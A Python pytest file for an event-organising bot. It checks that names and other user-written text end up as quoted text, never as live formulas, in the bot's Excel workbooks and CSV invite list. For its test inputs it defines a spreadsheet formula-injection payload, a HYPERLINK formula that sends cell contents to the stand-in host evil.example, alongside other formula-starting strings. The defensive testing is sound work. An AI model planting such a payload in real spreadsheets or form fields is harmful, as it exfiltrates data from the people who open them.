"""What people write never becomes a formula in a spreadsheet that the bot or its commands make."""

import csv
import io
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from pydantic import SecretStr

from bot import running
from bot.config import Settings
from bot.documents import attendance_sheet, sheet
from bot.documents.attendance_sheet import AttendanceSheet
from bot.documents.model import Document, Highlights, KeyFacts, Table
from bot.domain.outbox import Status
from bot.rehearsal.api import running as served
from bot.rehearsal.world import World
from bot.store.schedules.rundown_template import Words, rundown_sheet
from bot.texts import announcement_sheet
from tests.builders import EVENT, TOKEN, agenda, session
from tests.stores import database_url

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
STARTS = ("=1+1", "+1", "-1", "@SUM(1)", EVIL)
ROOT = Path(__file__).parents[1]


def _announcements(words: str) -> bytes:
    line = announcement_sheet.Line(words, words, words, words, Status.REFUSED, None, None, words)
    return announcement_sheet.workbook([line], "id", title=words, zone="UTC")


def _report(words: str) -> bytes:
    table = Table(words, (words, "B"), ((words, words), (1, words)), (1, 1))
    blocks = (Highlights(((words, words),)), KeyFacts(((words, words),)), table)
    return sheet.xlsx(_document(words, blocks))


def _document(words: str, blocks: tuple[Highlights | KeyFacts | Table, ...]) -> Document:
    return Document(
        kicker=words,
        title=words,
        lines=(words,),
        blocks=blocks,
        colophon=words,
        language="id",
        page_words=words,
        bearer=words,
        office=(words,),
        replaced_words=words,
    )


def _attendance(words: str) -> bytes:
    row = (words,) * 5
    return attendance_sheet.xlsx(
        AttendanceSheet((words,), "Daftar hadir", ((words, words),), (words,) * 7, (row,), words)
    )


def _rundown(words: str) -> bytes:
    evil = session(
        "a", "2025-11-04 09:00", title=words, room=words, speakers=(words,), dress=words
    )
    heads = Words("Rundown", words, words, words, words, tuple("ABCDEFGHI"))
    return rundown_sheet(agenda(evil), heads, "id", first=date(2025, 11, 4))


WRITERS = {
    "bot/texts/announcement_sheet.py": _announcements,
    "bot/documents/sheet.py": _report,
    "bot/documents/attendance_sheet.py": _attendance,
    "bot/store/schedules/rundown_template.py": _rundown,
}
ELSEWHERE = {
    "bot/running.py": "mandala invite, below",
    "bot/rehearsal/headless/running.py": "the transcript of a rehearsal, of invented people",
}


def test_every_module_that_writes_a_spreadsheet_is_tried_here() -> None:
    makes = re.compile(r"Workbook\(|csv\.writer|DictWriter")
    found = {
        str(path.relative_to(ROOT))
        for folder in ("bot", "handlers")
        for path in (ROOT / folder).rglob("*.py")
        if makes.search(path.read_text(encoding="utf-8"))
    }
    assert found - {"bot/store/roster_sheet.py"} == WRITERS.keys() | ELSEWHERE.keys()


@pytest.mark.parametrize("write", WRITERS.values(), ids=WRITERS)
@pytest.mark.parametrize("words", STARTS)
def test_no_cell_of_a_workbook_is_a_formula(write: Callable[[str], bytes], words: str) -> None:
    made = write(words)
    with ZipFile(io.BytesIO(made)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets/" in name]
    assert not any(b"<f>" in one or b"<f " in one for one in sheets)
    shown = 0
    for page in load_workbook(io.BytesIO(made)):
        for row in page.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith(words):
                    shown += 1
                    assert cell.data_type == "s"
                    assert cell.quotePrefix or cell.value.startswith("'"), cell.coordinate
    assert shown, "the words are there, as text"


async def test_no_cell_of_the_list_of_invites_is_a_formula(tmp_path: Path) -> None:
    event = tmp_path / "event"
    event.mkdir()
    for name in ("agenda.yaml",):
        (event / name).write_bytes((EVENT / name).read_bytes())
    rows = [
        f'x{n},"{words.replace(chr(34), chr(34) * 2)}",participant'
        for n, words in enumerate(STARTS)
    ]
    (event / "roster.csv").write_text("\n".join(["id,name,role", *rows]))
    world, out = World(token=TOKEN, username="formula_test_bot"), io.StringIO()
    async with served(world, token=TOKEN) as url:
        settings = Settings(
            _env_file=None,
            bot_token=SecretStr(TOKEN),
            telegram_api_url=url,
            database_url=database_url(tmp_path),
            state_dir=tmp_path,
            event_dir=event,
        )
        assert await running.print_invites(settings, out) == 0
    names = [row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert len(names) == len(STARTS)
    assert all(name.startswith("'") for name in names)
